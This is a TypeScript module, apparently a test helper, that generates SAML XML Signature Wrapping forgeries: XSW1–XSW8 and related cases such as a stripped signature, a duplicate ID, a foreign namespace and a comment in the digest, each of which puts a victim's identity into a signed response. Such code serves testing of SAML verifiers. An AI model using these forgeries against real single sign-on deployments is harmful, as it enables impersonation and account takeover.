/** The parts of a signed response, as text. */
interface Parts { readonly head: string; readonly assertion: string; readonly signature: string; readonly tail: string }

function partsOf(xml: string): Parts {
  const start = xml.indexOf('<saml:Assertion');
  const end = xml.indexOf('</saml:Assertion>') + '</saml:Assertion>'.length;
  const assertion = xml.slice(start, end);
  return { head: xml.slice(0, start), assertion, signature: /<ds:Signature[\s>][\s\S]*?<\/ds:Signature>/.exec(assertion)?.[0] ?? '', tail: xml.slice(end) };
}

/** The assertion that an attacker would have read: another person, without a signature, under another id where one is given. */
function evilOf({ assertion, signature }: Parts, victim: string, id?: string): string {
  const named = assertion.replace(signature, '').replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`).replace(/(<saml:Attribute Name="email"><saml:AttributeValue>)[^<]*/, `$1${victim}`);
  return id === undefined ? named : named.replace(/ID="_a[^"]*"/, `ID="${id}"`);
}

const responseSignature = (xml: string): string => /<ds:Signature[\s>][\s\S]*?<\/ds:Signature>/.exec(xml.replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, ''))?.[0] ?? '';
const withObject = (signature: string, content: string): string => signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`);
const into = (element: string, content: string): string => element.replace('</saml:Assertion>', `${content}</saml:Assertion>`);

/**
 * Signature wrapping as it is known (Somorovsky et al., "On Breaking SAML", 2012), each variant by its number: the signed element moved to where a
 * verifier still finds it, and another put where a reader looks. 1 and 2 need a signed response.
 */
export const wrappings: Readonly<Record<string, { readonly signs: 'assertion' | 'both'; wrap(xml: string, victim: string): string }>> = {
  'XSW1: the signed response inside of the signature of another response': { signs: 'both', wrap: (xml, victim) => { const [signature, parts] = [responseSignature(xml), partsOf(xml)]; return xml.replace(parts.assertion, evilOf(parts, victim, '_evil')).replace(/ID="_r[^"]*"/, 'ID="_evilr"').replace(signature, withObject(signature, xml.replace(signature, ''))); } },
  'XSW2: the signed response beside a signature that stands apart': { signs: 'both', wrap: (xml, victim) => { const [signature, parts] = [responseSignature(xml), partsOf(xml)]; return xml.replace(parts.assertion, evilOf(parts, victim, '_evil')).replace(/ID="_r[^"]*"/, 'ID="_evilr"').replace(signature, `${xml.replace(signature, '')}${signature}`); } },
  'XSW3: another assertion before the signed one': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head}${evilOf(parts, victim, '_evil')}${parts.assertion}${parts.tail}`; } },
  'XSW4: the signed assertion inside of another': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head}${into(evilOf(parts, victim, '_evil'), parts.assertion)}${parts.tail}`; } },
  'XSW5: the signature in another assertion, what it signed behind it': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head}${into(evilOf(parts, victim, '_evil'), parts.signature)}${parts.assertion.replace(parts.signature, '')}${parts.tail}`; } },
  'XSW6: the signature in another assertion, what it signed inside of it': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head}${into(evilOf(parts, victim, '_evil'), parts.signature.replace('</ds:Signature>', `${parts.assertion.replace(parts.signature, '')}</ds:Signature>`))}${parts.tail}`; } },
  'XSW7: another assertion in Extensions': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head}<samlp:Extensions>${evilOf(parts, victim)}</samlp:Extensions>${parts.assertion}${parts.tail}`; } },
  'XSW8: the signed assertion in an Object of the signature of another': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head}${into(evilOf(parts, victim), withObject(parts.signature, parts.assertion.replace(parts.signature, '')))}${parts.tail}`; } },
  'the signed assertion under the same id twice': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head}${parts.assertion}${evilOf(parts, victim)}${parts.tail}`; } },
  'an assertion of a namespace of one’s own': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head}${evilOf(parts, victim, '_evil').replaceAll('saml:', 'x:').replace('xmlns:x:', 'xmlns:x=').replace(/xmlns:x="[^"]*"/, 'xmlns:x="urn:x"')}${parts.assertion}${parts.tail}`; } },
  'a response inside of a response': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head.replace(/ID="_r[^"]*"/, 'ID="_outer"')}<samlp:Extensions>${xml}</samlp:Extensions>${evilOf(parts, victim, '_evil')}${parts.tail}`; } },
  'what was signed, changed': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head}${into(evilOf(parts, victim), '').replace('</saml:Issuer>', `</saml:Issuer>${parts.signature}`)}${parts.tail}`; } },
  'no signature': { signs: 'assertion', wrap: (xml, victim) => { const parts = partsOf(xml); return `${parts.head}${evilOf(parts, victim)}${parts.tail}`; } },
  'a second reference in what is signed': { signs: 'assertion', wrap: (xml) => xml.replace(/(<ds:Reference [\s\S]*?<\/ds:Reference>)/, '$1$1') },
  'a comment in the digest': { signs: 'assertion', wrap: (xml) => xml.replace('<ds:DigestValue>', '<ds:DigestValue><!-- x -->') },
};
